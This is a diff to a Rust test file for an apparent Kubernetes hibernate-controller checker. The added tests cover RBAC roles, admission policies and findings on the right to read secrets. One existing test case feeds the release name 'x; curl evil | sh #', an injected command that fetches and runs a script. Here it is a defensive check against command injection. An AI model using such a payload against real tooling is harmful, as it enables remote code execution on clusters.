@@ -1,5 +1,9 @@
 //! Checks over facts that no hub has to hold.
 
+use std::collections::BTreeSet;
+use std::fs;
+use std::path::Path;
+
 use jiff::Timestamp;
 use serde_json::{Value, json};
 use shared::annotation::keys;
@@ -7,7 +11,8 @@ use shared::annotation::keys;
 use super::finding::CheckResult;
 use super::finding::Status::{self, Failed, Ok as Fine, Warning};
 use super::hub::Facts;
-use super::installed::{CHECKS, VERSION};
+use super::installed::{CHECKS, CONFINED, POLICY_ONLY, VERSION};
+use super::secrets::secrets;
 use super::systems::hive;
 use crate::api::error::HubError;
 
@@ -42,6 +47,7 @@ fn facts(controller: &Value, webhook: &Value) -> Facts {
         talm: Ok(None),
         hive: Ok(None),
         has_user_clusters: false,
+        unbound: Ok(Vec::new()),
         trial: Ok(Value::Null),
     }
 }
@@ -106,6 +112,13 @@ fn what_runs_is_installed_again_as_it_is_or_by_its_owner() {
         ),
         (helm("sleep"), "helm upgrade sleep charts/hibernate --namespace ops --reset-then-reuse-values --set a=b"),
         (helm("x; curl evil | sh #"), "kubectl apply -k manifests/"),
+        (
+            with(&|facts| {
+                of(facts, 1, args, json!(["--served-platforms=aws"]));
+                facts.role_bindings = Ok(Vec::new());
+            }),
+            "kubectl apply -k manifests/overlays/cut-over-openshift",
+        ),
         // Only the owner knows the rest.
         (with(&|facts| facts.namespace = "sleep".to_owned()), ""),
         (with(&|facts| of(facts, 1, "/spec/template/spec/containers/0/image", json!("r.example.com/x:v1"))), ""),
@@ -134,4 +147,88 @@ fn every_missing_right_is_one_finding_and_no_failure() {
         .collect();
     assert!(statuses.iter().all(|status| *status == Status::NotChecked), "{statuses:?}");
     assert_eq!(statuses.len(), 9, "a hub without KKP and TALM");
+}
+
+/// Objects of the base and of every component, as they are written.
+fn written(folder: &Path) -> Vec<Value> {
+    let mut found = Vec::new();
+    for entry in fs::read_dir(folder).unwrap() {
+        let path = entry.unwrap().path();
+        if path.is_dir() {
+            found.extend(written(&path));
+        } else if path.extension().is_some_and(|end| end == "yaml") {
+            let objects: Vec<Value> = serde_saphyr::from_multiple(&fs::read_to_string(&path).unwrap()).unwrap();
+            found.extend(objects);
+        }
+    }
+    found
+}
+
+#[test]
+fn every_role_that_writes_has_its_policy_and_every_policy_of_an_account_its_row() {
+    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../manifests");
+    let all = [written(&root.join("base")), written(&root.join("components"))].concat();
+    let named = |kind: &'static str| {
+        let of_kind = all.iter().filter(move |object| object["kind"] == kind);
+        of_kind.map(|object| (object["metadata"]["name"].as_str().unwrap(), object))
+    };
+    let writes = |role: &Value| {
+        let verbs = role["rules"].as_array().into_iter().flatten().flat_map(|rule| rule["verbs"].as_array().unwrap());
+        verbs.into_iter().any(|verb| !["get", "list", "watch"].contains(&verb.as_str().unwrap()))
+    };
+    let bound: Vec<&str> =
+        named("ClusterRoleBinding").filter_map(|(_, binding)| binding["roleRef"]["name"].as_str()).collect();
+    let roles: BTreeSet<&str> = named("ClusterRole")
+        .filter(|(name, role)| bound.contains(name) && writes(role))
+        .map(|(name, _)| name)
+        .collect();
+    assert_eq!(roles, CONFINED.iter().map(|(role, _)| *role).collect(), "roles that write");
+    let of_account = |policy: &Value| policy["spec"]["matchConditions"].to_string().contains("system:serviceaccount:");
+    let policies: BTreeSet<&str> = named("ValidatingAdmissionPolicy")
+        .filter(|(name, policy)| *name != POLICY_ONLY && of_account(policy))
+        .map(|(name, _)| name)
+        .collect();
+    assert_eq!(policies, CONFINED.iter().map(|(_, policy)| *policy).collect(), "policies of an account");
+}
+
+#[test]
+fn the_right_to_read_secrets_is_everywhere_or_in_each_namespace() {
+    let bound = || Ok(vec![json!({ "metadata": { "name": "hibernate-controller-secrets" } })]);
+    let found = |groups: &[&str], everywhere: bool, unbound: &[&str], replicas: i64| {
+        let mut facts = facts(&json!(replicas), &json!([]));
+        facts.groups = groups.iter().map(|&group| group.to_owned()).collect();
+        facts.role_bindings = if everywhere { bound() } else { Ok(Vec::new()) };
+        facts.unbound = Ok(unbound.iter().map(|&name| name.to_owned()).collect());
+        secrets(&facts).unwrap()
+    };
+    let (hive, openshift) = (&["hive.openshift.io"][..], &["hive.openshift.io", "security.openshift.io"][..]);
+    for (groups, everywhere, unbound, replicas, expected, commands) in [
+        (hive, true, &["a"][..], 2, None, 0),
+        (&["security.openshift.io"], false, &[], 2, None, 0),
+        (openshift, true, &[], 0, None, 0),
+        (openshift, true, &["a", "b"], 2, Some(Warning), 3),
+        (openshift, false, &[], 2, Some(Fine), 0),
+        (hive, false, &["a", "b"], 2, Some(Failed), 2),
+    ] {
+        let result = found(groups, everywhere, unbound, replicas);
+        let result = result.map(|result| (result.status, result.commands.len()));
+        assert_eq!(result, expected.map(|status| (status, commands)), "{groups:?} {everywhere} {unbound:?}");
+    }
+    let detail = found(hive, false, &["a", "b"], 2).unwrap().detail;
+    assert!(detail.ends_with(": a, b"), "{detail}");
+}
+
+#[test]
+fn a_hub_without_policies_has_no_right_that_only_a_policy_confines() {
+    let policies = CHECKS.iter().find(|(name, _)| *name == "policies").unwrap().1;
+    for (role, expected) in [
+        ("hibernate-controller-fdb", Warning),
+        ("hibernate-controller-openstack", Failed),
+        ("hibernate-controller-cgu", Failed),
+    ] {
+        let mut facts = facts(&json!(2), &json!([]));
+        facts.policies = Ok(None);
+        facts.roles = Ok(vec![json!({ "metadata": { "name": role } })]);
+        assert_eq!(policies(&facts).unwrap().unwrap().status, expected, "{role}");
+    }
 }
